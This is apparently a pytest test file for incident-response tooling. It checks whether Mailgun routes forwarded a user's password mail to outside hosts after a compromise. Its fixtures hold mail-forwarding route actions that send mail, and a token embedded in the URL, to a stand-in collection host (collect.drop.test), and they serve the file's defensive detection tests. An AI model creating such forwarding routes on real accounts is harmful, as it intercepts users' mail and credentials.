"""Whose password mail a route took: what is known of it when the route is gone."""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime, timedelta
from typing import Any

import pytest

from tests.support.effects import an_effect
from tests.support.situations import NOW, OLD, US, Story, situation
from workbench.core.clock import iso
from workbench.domain.detection.hosts import CustomerNames
from workbench.domain.model.hash_chain import canonical
from workbench.domain.model.inventory import UserItem
from workbench.domain.model.plan import Effect, EffectKind, EffectState
from workbench.domain.model.settings import PlaceSettings, Settings
from workbench.domain.model.situation import Situation
from workbench.domain.model.state import Decision, EffectRecord
from workbench.domain.runbook.tapped import could_be, password_of, routes, unclear
from workbench.domain.settings_audit.audit import Clues, Swept, sweep
from workbench.domain.settings_audit.recorded import SweepRead
from workbench.domain.settings_audit.remedies import effect_of
from workbench.mailgun.endpoints import Region
from workbench.mailgun.models import Domain, Route, User
from workbench.mailgun.records import NAME_ALONE

MAIL = "ann@mg.acme.example"
HOME = CustomerNames.of(["mg.acme.example"])
SECRET = "s3cr3t-t0ken"
ACTIONS = (f'forward("https://hook:{SECRET}@collect.drop.test/in?token={SECRET}")', "stop()")


def swept(expression: str, actions: tuple[str, ...] = ACTIONS) -> Swept:
    """Return a route that was made inside the window, as the sweep judges it."""
    found = Settings(NOW, NOW - timedelta(days=2))
    route = Route(id="r1", expression=expression, actions=actions, created_at=NOW - timedelta(hours=6))
    found.places[US] = PlaceSettings(US, routes=[route])
    (item,) = sweep(found, HOME, Clues()).swept
    return item


def after(removal: Effect, hours: float) -> Situation:
    """Return where a route was deleted two hours after the cut, and a user's password was set ``hours`` after it."""
    story = Story().verified([an_effect(EffectKind.KEY_DELETE, "k1")])
    story.at = NOW + timedelta(hours=2)
    found = situation(
        domains=[Domain(name="mg.acme.example", created_at=OLD)], state=story.verified([removal]).state()
    )
    user = User(id="u1", email=MAIL, name="Ann", password_updated_at=NOW + timedelta(hours=hours))
    found.inventory.users["u1"] = UserItem(user, US)
    return found


def told(item: Swept, hours: float = 1) -> str:
    removal = effect_of(item, Region.US)
    assert removal is not None
    found = after(removal, hours)
    return password_of(found, found.inventory.users["u1"])


def test_a_password_set_while_a_deleted_route_took_its_mail_shuts_nobody_out() -> None:
    mine = swept(f"match_recipient('{MAIL}')")
    assert told(mine) == "a route that was deleted since"
    assert told(swept("catch_all()")) == "a route that was deleted since"
    assert told(mine, hours=3) == "", "set when nobody read it any more"
    assert told(mine, hours=-1) == "", "set before the cut"


def test_a_deleted_route_that_took_other_mail_or_stayed_at_home_copied_nothing() -> None:
    assert told(swept("match_recipient('desk@mg.acme.example')")) == ""
    home = ('forward("https://desk.mg.acme.example/in")',)
    assert told(swept(f"match_recipient('{MAIL}')", home)) == ""


def test_a_sweep_of_an_earlier_version_names_the_hosts_all_the_same() -> None:
    item = swept(f"match_recipient('{MAIL}')")
    before = {"expression": f"match_recipient('{MAIL}')", "actions": list(ACTIONS)}
    assert told(replace(item, params=before)) == "a route that was deleted since"


def test_the_address_that_a_route_gave_mail_to_stays_out_of_the_plan_and_of_the_sweep() -> None:
    item = swept(f"match_recipient('{MAIL}')")
    removal = effect_of(item, Region.US)
    assert removal is not None
    assert SECRET not in canonical(removal.to_json())
    assert SECRET not in canonical(SweepRead(items=(item,)).body())


# ── routes there are ─────────────────────────────────────────────────────────────────────────────────────

AWAY = ('forward("https://collect.drop.test/in")',)
MINE = ('forward("https://desk.mg.acme.example/in")',)


def there(route: Route | None = None, *users: User, **decided: str) -> Situation:
    """Return an account, cut an hour ago, with this route and these users; Ann on its domain where none are given."""
    state = Story().verified([an_effect(EffectKind.KEY_DELETE, "k1")]).state()
    found = situation(domains=[Domain(name="mg.acme.example", created_at=OLD)], state=state)
    held = users or (User(id="u1", email=MAIL, name="Ann"),)
    found.inventory.users = {user.id: UserItem(user, US) for user in held}
    found.inventory.routes = {route.id: route} if route is not None else {}
    for name, decision in decided.items():
        name = name.replace("__", ":")
        found.state.decisions[name] = Decision(name, decision, "", "ann", iso(NOW))
    return found


def route(expression: str | None = f"match_recipient('{MAIL}')", **more: Any) -> Route:
    return Route(id="r1", expression=expression, **{"actions": AWAY, "created_at": NOW, **more})


@pytest.mark.parametrize(
    ("expression", "takes"),
    [
        (f"match_recipient('{MAIL}')", True),
        ("match_recipient('ANN@MG.acme.example')", True),
        (r"match_recipient('ann@mg\\.acme\\.example')", True),
        ("match_recipient('.*@mg.acme.example')", True),
        ("match_recipient('.+@mg.acme.example')", True),
        ("match_recipient('.*@other.example')", False),
        ("match_recipient('bob@mg.acme.example')", False),
        ("catch_all()", True),
        ("match_recipient('bob@mg.acme.example') or catch_all()", True),
        ("match_header('subject', '.*')", True),
        ("", True),
        (None, True),
    ],
)
def test_a_route_takes_whom_its_expression_names_and_everyone_where_nobody_can_read_it(
    expression: str | None, takes: bool
) -> None:
    made = route(expression)
    assert list(routes(there(made))) == ([(made, "collect.drop.test")] if takes else [])
    assert list(unclear(there(made))) == []


def test_only_a_user_whose_mailbox_the_account_receives_for_can_be_tapped() -> None:
    for email in ("ann@elsewhere.example", None):
        found = there(route("catch_all()"), User(id="u1", email=email, name="Ann"))
        assert list(routes(found)) == []
    assert list(routes(there(route("catch_all()"), User(id="u1", email="A@B@MG.Acme.example")))) != []


def test_a_route_that_stays_at_home_or_that_somebody_called_ours_takes_nothing_away() -> None:
    assert list(routes(there(route(actions=MINE)))) == []
    for name in ("route__r1", "alarm__routes__r1"):
        assert list(routes(there(route(), **{name: "ours"}))) == []
        assert list(routes(there(route(), **{name: "intruder"}))) != []
    for name in ("key__r1", "route__other", "route__r1x"):
        assert list(routes(there(route(), **{name: "ours"}))) != [], name


@pytest.mark.parametrize(
    ("more", "doubt"),
    [
        ({"actions": ()}, True),
        ({"unreadable": ("actions",)}, True),
        ({"unreadable": (NAME_ALONE,)}, True),
        ({"unreadable": ("description",)}, False),
        ({"actions": MINE}, False),
        ({}, False),
    ],
)
def test_a_route_of_which_the_end_could_not_be_read_may_take_mail_away(
    more: dict[str, Any], doubt: bool
) -> None:
    made = route(**{"actions": MINE, **more})
    assert list(unclear(there(made))) == ([made] if doubt else [])
    assert list(unclear(there(made, route__r1="ours"))) == []


def test_a_mailbox_that_nobody_could_read_may_be_taken_by_any_route_that_leaves() -> None:
    nameless = User(id="u1", email=None, name="Ann")
    for made, doubt in ((route(), True), (route(actions=()), True), (route(actions=MINE), False)):
        assert bool(list(unclear(there(made, nameless)))) is doubt
    both = there(route(), nameless, User(id="u2", email=MAIL))
    assert list(unclear(both)) == [] and list(routes(both)) != []


def test_a_route_could_take_password_mail_only_where_somebody_has_a_mailbox_here() -> None:
    assert could_be(there())
    assert not could_be(there(None, User(id="u1", email="ann@elsewhere.example")))
    assert could_be(there(None, User(id="u1", email=None)))
    for email in (MAIL, None):
        assert not could_be(there(None, User(id="u1", email=email, is_disabled=True)))


# ── passwords set meanwhile ──────────────────────────────────────────────────────────────────────────────


def through(made: Route | None, changed: timedelta | None, **decided: str) -> str:
    """Return what copied the mail of a password that was set so long after the cut."""
    at = None if changed is None else NOW + changed
    found = there(made, User(id="u1", email=MAIL, password_updated_at=at), **decided)
    return password_of(found, found.inventory.users["u1"])


HOUR = timedelta(hours=1)


def test_a_password_set_after_the_cut_while_a_route_took_its_mail_is_the_strangers_too() -> None:
    assert through(route(description="desk"), HOUR) == "route “desk”"
    assert through(route(), HOUR) == "route “r1”"
    assert through(route(), timedelta(0)) == "route “r1”", "set and made in the same moment"
    assert through(route(created_at=None), HOUR) == "route “r1”", "nobody knows since when"
    assert through(route(), None) == "" == through(None, HOUR)
    assert through(route(created_at=OLD), -HOUR) == "", (
        "set before the cut: it is to be set anew all the same"
    )
    assert through(route(created_at=NOW + 2 * HOUR), HOUR) == "", "made later than the password"
    assert through(route(actions=MINE), HOUR) == ""
    assert through(route("match_recipient('bob@mg.acme.example')"), HOUR) == ""
    assert through(route(), HOUR, route__r1="ours") == ""


def test_before_the_cut_no_password_is_judged() -> None:
    found = there(route(), User(id="u1", email=MAIL, password_updated_at=NOW + HOUR))
    found.state.first_cut_at = ""
    assert password_of(found, found.inventory.users["u1"]) == ""


@pytest.mark.parametrize(
    ("state", "done", "told_"),
    [
        (EffectState.VERIFIED, NOW + HOUR, True),
        (EffectState.DONE, NOW + HOUR, True),
        (EffectState.DONE, NOW + HOUR / 2, False),
        (EffectState.PLANNED, NOW + HOUR, False),
        (EffectState.FAILED, NOW + HOUR, False),
        (EffectState.DONE, None, False),
    ],
)
def test_a_route_that_is_gone_took_what_was_set_before_its_end(
    state: EffectState, done: datetime | None, told_: bool
) -> None:
    user = User(id="u1", email=MAIL, password_updated_at=NOW + HOUR)
    found = there(None, user)
    for hosts, takes in ((("collect.drop.test",), told_), (("desk.mg.acme.example",), False)):
        removal = an_effect(
            EffectKind.ROUTE_DELETE, "r1", US, expression=f"match_recipient('{MAIL}')", hosts=hosts
        )
        found.state.effects = {
            removal.id: EffectRecord(removal, state, done_at="" if done is None else iso(done))
        }
        said = password_of(found, found.inventory.users["u1"])
        assert said == ("a route that was deleted since" if takes else "")
